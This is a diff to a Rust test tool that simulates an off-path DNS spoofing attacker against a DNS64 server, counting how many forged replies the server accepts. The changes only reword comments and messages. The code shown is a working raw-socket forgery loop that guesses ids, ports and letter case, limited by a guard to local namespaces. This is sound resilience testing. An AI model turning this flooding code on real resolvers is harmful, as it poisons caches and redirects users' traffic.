@@ -1,10 +1,11 @@
-//! An off-path attacker (RFC 5452), to try a DNS64 server with: `benches/dns64-spoofing` runs it.
+//! An off-path attacker (RFC 5452), to test a DNS64 server with: `benches/dns64-spoofing` runs it.
 //!
-//! It asks the server for one name after the other, so that the server asks its upstream, and sends forged replies as
-//! fast as it can until the true one has come: right source address and port, right question, a guessed id, a guessed
-//! destination port, and a guess at the case of every letter. A forged address that comes back to the client was
-//! accepted. The more is known to the attacker (`--ports`, `--case-known`), the easier it is: with one port and known
-//! case it must succeed within seconds, which shows that the trial can fail.
+//! It queries the server for one name after the other, so that the server queries its upstream, and sends forged
+//! replies as fast as it can until the true one has arrived: with the right source address and port and the right
+//! question, but a guessed id, a guessed destination port, and a guessed case of every letter. If the client gets the
+//! forged address, the server accepted a forged reply. The more the attacker knows (`--ports`, `--case-known`), the
+//! easier the attack is. With one port and known case it must succeed within seconds, which shows that the test can
+//! fail.
 
 use std::io;
 use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
@@ -17,35 +18,35 @@ use rand_chacha::ChaCha12Rng;
 use rand_chacha::rand_core::{RngCore, SeedableRng};
 use socket2::{Domain, Protocol, Socket, Type};
 
-/// The address that the forged replies hold.
+/// Address in the forged replies.
 const FORGED: [u8; 16] = [0x20, 1, 0x0d, 0xb8, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
-/// The protocol of raw sockets (IPPROTO_RAW): whoever sends writes the IP header.
+/// Protocol of raw sockets (IPPROTO_RAW): the sender writes the IP header.
 const RAW: i32 = 255;
-/// IPv4 and UDP headers.
+/// Length of the IPv4 and UDP headers.
 const HEADERS: usize = 20 + 8;
-/// Where a DNS message's question begins.
+/// Position of the question in a DNS message.
 const QUESTION: usize = 12;
-/// Forged replies between two looks at the client's socket.
+/// Number of forged replies between two checks of the client's socket.
 const BURST: u32 = 32;
-/// How long a true reply is waited for.
-const PATIENCE: Duration = Duration::from_secs(2);
+/// Longest wait for a true reply.
+const REPLY_TIMEOUT: Duration = Duration::from_secs(2);
 
-/// Sends forged replies to a DNS64 server in a namespace of this host's.
+/// Sends forged replies to a DNS64 server in a namespace of this host.
 #[derive(Parser)]
 struct Args {
     /// The server under attack.
     #[arg(long)]
     server: SocketAddrV4,
-    /// Its upstream, whose address and port the replies pretend to come from.
+    /// Its upstream; the replies claim to come from its address and port.
     #[arg(long)]
     upstream: SocketAddrV4,
-    /// For so many seconds, 600 at most.
+    /// Duration in seconds, at most 600.
     #[arg(long, value_parser = clap::value_parser!(u64).range(1..=600))]
     seconds: u64,
-    /// Guess the destination port among these: LOW-HIGH.
+    /// Guess the destination port in this range: LOW-HIGH.
     #[arg(long, default_value = "1024-65535", value_parser = ports)]
     ports: RangeInclusive<u16>,
-    /// Leave the letters as they were asked for: for a server without mixed case.
+    /// Keep the case of the letters: for a server without mixed case.
     #[arg(long)]
     case_known: bool,
 }
@@ -60,7 +61,7 @@ fn ports(text: &str) -> Result<RangeInclusive<u16>, String> {
     }
 }
 
-/// What became of the names asked for.
+/// Outcomes of the queried names.
 #[derive(Default)]
 struct Outcome {
     forged_sent: u64,
@@ -77,13 +78,13 @@ fn main() -> anyhow::Result<()> {
     };
     ensure!(
         local(&args.server) && local(&args.upstream),
-        "only servers in the scripts' namespaces (10.9.0.0/16) or on loopback are tried"
+        "only servers in the scripts' namespaces (10.9.0.0/16) or on loopback are allowed"
     );
     let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
-        .context("no raw socket: run this as the namespace's root")?;
+        .context("cannot open a raw socket: run this as root of the namespace")?;
     let outcome = attack(&args, &raw)?;
     println!(
-        "{} names asked for, {} forged replies ({:.0} a second); true answers {}, forged answers accepted {}, no answer {}",
+        "{} names queried, {} forged replies ({:.0} per second); true answers {}, forged answers accepted {}, no answer {}",
         outcome.names,
         outcome.forged_sent,
         outcome.forged_sent as f64 / args.seconds as f64,
@@ -94,7 +95,7 @@ fn main() -> anyhow::Result<()> {
     Ok(())
 }
 
-/// Asks for names and forges replies until the time is up.
+/// Queries names and forges replies until the time is over.
 fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
     let client = UdpSocket::bind((*args.upstream.ip(), 0)).context("cannot bind the client")?;
     client.connect(args.server)?;
@@ -107,7 +108,7 @@ fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
         let address = Ipv4Addr::from(0x2000_0000 + outcome.names as u32);
         outcome.names += 1;
         let question = question(address);
-        client.send(&query(&question, outcome.names as u16)).context("cannot ask")?;
+        client.send(&query(&question, outcome.names as u16)).context("cannot send a query")?;
         let asked = Instant::now();
         let mut forged = Forged::new(args, &question);
         loop {
@@ -115,7 +116,7 @@ fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
                 let packet = forged.guess(args, &mut rng);
                 match raw.send_to(packet, &target) {
                     Ok(_) => outcome.forged_sent += 1,
-                    // The queue to the server is full: that is the line's rate.
+                    // The queue to the server is full: the attack runs at the rate of the link.
                     Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                     Err(error) if error.raw_os_error() == Some(nix::libc::ENOBUFS) => {}
                     Err(error) => return Err(error).context("cannot send a forged reply"),
@@ -126,12 +127,12 @@ fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
                 Ok(len) if reply[..len].windows(16).any(|w| w == FORGED) => outcome.accepted += 1,
                 Ok(_) => outcome.true_replies += 1,
                 Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
-                    if asked.elapsed() < PATIENCE {
+                    if asked.elapsed() < REPLY_TIMEOUT {
                         continue;
                     }
                     outcome.no_reply += 1;
                 }
-                Err(error) => return Err(error).context("cannot hear from the server"),
+                Err(error) => return Err(error).context("cannot receive from the server"),
             }
             break;
         }
@@ -139,7 +140,7 @@ fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
     Ok(outcome)
 }
 
-/// The question for an address's name in the namespace of dns64perf, AAAA.
+/// Composes the AAAA question for an address's name in the namespace of dns64perf.
 fn question(address: Ipv4Addr) -> Vec<u8> {
     let [a, b, c, d] = address.octets();
     let mut question =
@@ -148,7 +149,7 @@ fn question(address: Ipv4Addr) -> Vec<u8> {
     question
 }
 
-/// A client's query.
+/// Composes a client's query.
 fn query(question: &[u8], id: u16) -> Vec<u8> {
     let [high, low] = id.to_be_bytes();
     let mut query = vec![high, low, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
@@ -163,14 +164,15 @@ struct Forged {
 }
 
 impl Forged {
-    /// All but what is guessed.
+    /// Composes everything except the guessed parts.
     fn new(args: &Args, question: &[u8]) -> Self {
         let mut message = vec![0, 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
         message.extend(question);
         message.extend([0xc0, QUESTION as u8, 0, 28, 0, 1, 0, 1, 0x51, 0x80, 0, 16]);
         message.extend(FORGED);
         let size = |headers: usize| ((headers + message.len()) as u16).to_be_bytes();
-        // The kernel fills in the length, the id and the checksum of the IP header; a UDP checksum of 0 is none.
+        // The kernel fills in the length, the id and the checksum of the IP header. A UDP checksum of 0
+        // means none.
         let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0];
         packet.extend(args.upstream.ip().octets());
         packet.extend(args.server.ip().octets());
@@ -183,7 +185,7 @@ impl Forged {
         Forged { packet, question: name..=name + question.len() - 6 }
     }
 
-    /// One more guess.
+    /// Fills in the next guess.
     fn guess(&mut self, args: &Args, rng: &mut ChaCha12Rng) -> &[u8] {
         let random = rng.next_u64();
         let ports = u64::from(args.ports.end() - args.ports.start()) + 1;
